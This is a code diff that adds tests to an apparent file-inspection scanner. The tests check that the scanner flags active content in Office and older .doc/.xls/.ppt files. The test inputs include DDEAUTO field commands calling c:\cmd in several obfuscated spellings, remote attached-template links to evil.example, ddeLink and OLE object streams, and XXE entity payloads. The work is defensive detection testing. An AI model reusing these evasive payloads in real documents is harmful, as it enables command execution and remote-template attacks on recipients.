@@ -1,7 +1,8 @@
 import { deflateSync } from 'node:zlib'
 import * as mupdf from 'mupdf'
 import { expect, test, vi } from 'vitest'
-import { look } from '../platform/inspection/samples/arrive.ts'
+import { fixture, look } from '../platform/inspection/samples/arrive.ts'
+import { compoundOf } from '../platform/inspection/samples/compounds.ts'
 import { linesOfText, pdfOf } from '../platform/inspection/samples/pdfs.ts'
 import { mainParts, officeOf, zipOf } from '../platform/inspection/samples/zips.ts'
 
@@ -21,6 +22,8 @@ async function outcome(name: string, bytes: Buffer) {
   const { problem, active_content } = await look(name, bytes)
   return { problem: problem?.code ?? null, active_content, message: problem?.message }
 }
+
+const clean = { problem: null, active_content: [] }
 
 test('F-js-embedded.pdf: scripts, programs, attached files and sending are marked', async () => {
   const bytes = edited((document) => {
@@ -62,6 +65,82 @@ test('F-remote-template.docx, F-external.xlsx: what is loaded from elsewhere and
     { name: 'word/_rels/document.xml.rels', body: rels('hyperlink', 'https://example.com') },
   ])
   expect((await outcome('a.docx', link)).active_content).toEqual([])
+})
+
+const relationship = (attributes: string) =>
+  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" ${attributes}/></Relationships>`
+const template = 'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
+
+test.each([
+  `${template} Target="https://evil.example/hyperlink" TargetMode="External"`,
+  `${template} Target="https://evil.example/t.dotm" TargetMode="&#69;xterna&#x6c;"`,
+  `Target="https://evil.example/?a>b" ${template} TargetMode='External'`,
+  `TargetMode = "External" Target="https://evil.example/'/hyperlink'" ${template}`,
+])('F-remote-template.docx: marks a template however it is written: %s', async (attributes) => {
+  const name = 'word/_rels/settings.xml.rels'
+  const utf16 = Buffer.concat([Buffer.from('fffe', 'hex'), Buffer.from(relationship(attributes), 'utf16le')])
+  for (const body of [relationship(attributes), `<!-- > " -->${relationship(attributes)}`, utf16]) {
+    const bytes = officeOf(mainParts.docx, 'word/document.xml', [{ name, body }])
+    expect(await outcome('a.docx', bytes)).toMatchObject({ problem: null, active_content: ['remote_content'] })
+  }
+})
+
+test.each([
+  ['word/footer1.xml', '<x:instrText>DDEAUTO c:\\cmd</x:instrText>'],
+  [
+    'word/footer1.xml',
+    '<instrText xml:space="preserve" a=">">&#68;DE</instrText><instrText><![CDATA[AUTO c:\\cmd]]></instrText>',
+  ],
+  ['word/footer1.xml', '<w:instrText>PAGE</w:instrText><w:fldChar/><w:instrText>DDE c:\\cmd</w:instrText>'],
+  ['word/footer1.xml', "<x:fldSimple x:instr='DDE&#65;UTO c:\\cmd'/>"],
+  ['word/deeper/part.dat', '<w:instrText>DDEAUTO c:\\cmd</w:instrText>'],
+  ['other/link.bin', '<x-y:ddeLink ddeService="cmd"/>'],
+])('F-external.xlsx: marks commands in %s, however they are written: %s', async (name, body) => {
+  const whole = `<w:a xmlns:w="urn:w">${body}</w:a>`
+  const bytes = officeOf(mainParts.docx, 'word/document.xml', [{ name, body: whole }])
+  expect(await outcome('a.docx', bytes)).toMatchObject({ problem: null, active_content: ['commands'] })
+})
+
+test('F-external.xlsx: a document that writes about commands and links to pages is not marked', async () => {
+  const link = 'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"'
+  const bytes = officeOf(mainParts.docx, 'word/document.xml', [
+    {
+      name: 'word/_rels/document.xml.rels',
+      body: relationship(`${link} Target="https://a.example" TargetMode="External"`),
+    },
+    { name: 'word/footer1.xml', body: '<a><w:instrText>PAGE</w:instrText><w:t>DDEAUTO is a field</w:t></a>' },
+    { name: 'word/media/image1.svg', body: '<!DOCTYPE svg><svg/>' },
+  ])
+  expect(await outcome('a.docx', bytes)).toMatchObject({ problem: null, active_content: [] })
+})
+
+test('F-external.xlsx: marks objects, controls and commands of older documents', async () => {
+  const empty = Buffer.alloc(0)
+  const field = (encoding: 'latin1' | 'utf16le') =>
+    Buffer.concat([Buffer.alloc(1024), Buffer.from('Dear lender \u0013 DDEAUTO c:\\cmd \u0014x\u0015', encoding)])
+  for (const [name, streams, active_content] of [
+    ['a.doc', { WordDocument: field('latin1') }, ['commands']],
+    ['a.doc', { WordDocument: field('utf16le') }, ['commands']],
+    [
+      'a.doc',
+      { WordDocument: Buffer.concat([Buffer.alloc(1024), Buffer.from('DDEAUTO is a \u0013 PAGE \u0015 field')]) },
+      [],
+    ],
+    ['a.doc', { WordDocument: empty, ObjectPool: empty, '\u0003OCXNAME': empty }, ['scripts', 'attached_files']],
+    ['a.xls', { Workbook: empty, MBD0001F2A0: empty }, ['attached_files']],
+    ['a.ppt', { 'PowerPoint Document': empty, '\u0001Ole10Native': empty }, ['attached_files']],
+  ] as const) {
+    expect(await outcome(name, compoundOf(streams))).toMatchObject({ problem: null, active_content })
+  }
+  for (const name of ['older.doc', 'older.xls']) expect(await outcome(name, fixture(name))).toMatchObject(clean)
+})
+
+test('F-xxe.docx: a document type far behind the beginning is refused', async () => {
+  const body = `<?xml version="1.0"?><!--${'x'.repeat(5000)}--><!DOCTYPE a [<!ENTITY x "DDEAUTO">]><a>&x;</a>`
+  for (const name of ['word/footer1.xml', 'word/footer1.dat']) {
+    const bytes = officeOf(mainParts.docx, 'word/document.xml', [{ name, body }])
+    expect((await outcome('a.docx', bytes)).problem).toBe('damaged')
+  }
 })
 
 test('F-xxe.docx: a document type in an Office part is refused', async () => {
